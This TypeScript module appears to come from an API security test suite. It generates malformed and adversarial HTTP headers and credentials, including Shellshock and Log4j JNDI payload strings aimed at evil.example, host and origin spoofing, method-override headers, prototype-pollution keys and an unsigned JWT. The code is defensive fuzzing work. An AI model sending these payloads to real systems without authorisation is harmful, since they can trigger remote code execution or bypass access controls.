import type { Endpoint } from '../../../../shared/http/endpoint.ts';
import { type Attack, plainRequest, withHeaders } from './attack.ts';
import type { Header } from './wire.ts';

const mediaTypes = [
  ...['text/html', 'application/xml', 'multipart/form-data; boundary=x'],
  ...['application/x-www-form-urlencoded', 'image/png'],
  ...['application/jsonx', 'application/json/x', 'json', '*/*', 'application/octet-stream'],
  ...['application/javascript'],
];
const jsonTypes = [
  ...['application/json', 'APPLICATION/JSON; charset=utf-8', 'application/problem+json', 'text/plain'],
  ...['application/json;charset=utf-16'],
  ...['', ';', 'application/json, text/html', `application/json; x=${'y'.repeat(3_000)}`],
];
const tags = [
  ...['0', '1', '"1"', '"2"', 'W/"1"', '*', '-1', '1.0', '1e400', '9'.repeat(400), '"', '""', '"1', '1,2'],
  ...['0x1', 'é'],
];
const keys = [
  '{unique}',
  ' ',
  'x'.repeat(255),
  'x'.repeat(256),
  'x'.repeat(4_000),
  'é',
  '',
  '\t',
  '__proto__',
  '#',
  '"',
  '{apiKey}',
];

/** Headers that other programs believe. */
const believed: readonly Header[] = [
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/api/account/api-keys'],
  ['X-Rewrite-URL', '/api/account'],
  ['X-Forwarded-For', '127.0.0.1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example'],
  ['Host', 'evil.example'],
  ['X-Amzn-Trace-Id', 'Root=1-0-0'],
  ['x-amzn-RequestId', 'mine'],
  ['X-Request-Id', 'mine'],
  ['Origin', 'https://evil.example'],
  ['Cookie', 'a=b; accountId=x'],
  ['Accept', 'text/html'],
  ['Accept-Encoding', 'gzip;q=1.0, *;q=0'],
  ['Range', 'bytes=0-0'],
  ['If-None-Match', '*'],
  ['Expect', '100-continue'],
  ['Content-Encoding', 'gzip'],
  ['Upgrade', 'h2c'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
  ['X-Long', 'x'.repeat(7_000)],
  ['X-Latin', '\xff\xfe\xe9'],
  ['X-Shellshock', '() { :; }; echo x'],
  ['X-Log4j', '$\x7bjndi:ldap://evil.example/x}'],
];

/** Each odd header, once and, where that means something else, twice. */
export function oddHeaders(endpoint: Endpoint): readonly Attack[] {
  const plain = plainRequest(endpoint);
  const attack = (name: string, headers: readonly Header[], more: Partial<Attack> = {}): Attack => ({
    ...plain,
    name: `${name}: ${JSON.stringify(headers.map(([each, value]) => `${each}: ${value.slice(0, 40)}`))}`,
    headers: withHeaders(plain, headers),
    ...more,
  });
  const each = (name: string, values: readonly string[]) =>
    values.flatMap((value) => [
      attack('header', [[name, value]]),
      attack('header twice', [
        [name, value],
        [name, value],
      ]),
    ]);
  return [
    ...mediaTypes.map((type) =>
      attack('media type', [['Content-Type', type]], endpoint.body ? { isRefused: true } : {}),
    ),
    ...each('Content-Type', jsonTypes),
    ...each('If-Match', tags),
    ...each('Idempotency-Key', keys),
    ...believed.map((header) => attack('believed', [header])),
    ...(endpoint.access === 'public'
      ? []
      : oddCredentials.map((headers, index) => withCredential(plain, headers, index))),
    ...Array.from({ length: 3 }, (_, index) =>
      attack(
        'many',
        Array.from({ length: 30 * (index + 1) }, (_unused, number) => [`X-${number}`, 'x']),
      ),
    ),
  ];
}

const oddKeys = [
  ...['', ' ', 'svc_', 'x', '{token}', 'Bearer {apiKey}', 'é', '{apiKey}x', 'x{apiKey}'],
  ...['{apiKey}, {apiKey}'],
  ...[`svc_${'x'.repeat(28)}`, `svc_${'x'.repeat(9_000)}`],
];
const oddAuthorizations = [
  ...['', 'Bearer', 'Bearer ', 'Basic YTpi', '{token}', 'Bearer {apiKey}', 'Bearer {token}x'],
  ...['Bearer x.y.z', 'Digest x'],
  ...['Bearer ..', 'Bearer eyJhbGciOiJub25lIn0.e30.', 'Bearer {token} {token}'],
  ...[`Bearer ${'x'.repeat(9_000)}`],
];
const key: Header = ['X-API-Key', '{apiKey}'];
const token: Header = ['Authorization', 'Bearer {token}'];

/** Nobody’s, malformed, in the wrong place, or two at once: none may succeed. */
const oddCredentials: readonly (readonly Header[])[] = [
  [],
  ...oddKeys.map((value): readonly Header[] => [['X-API-Key', value]]),
  ...oddAuthorizations.map((value): readonly Header[] => [['Authorization', value]]),
  [key, token],
  [key, ['x-api-key', '{apiKey}']],
  [key, ['X-API-Key', 'x']],
  [token, ['AUTHORIZATION', 'Bearer {token}']],
  [['Cookie', 'X-API-Key={apiKey}']],
  [['Proxy-Authorization', 'Bearer {token}']],
];

function withCredential(plain: Attack, headers: readonly Header[], index: number): Attack {
  return {
    ...plain,
    name: `credential ${index}`,
    headers: [...plain.headers, ...headers],
    hasOwnCredential: true,
    isRefused: true,
  };
}
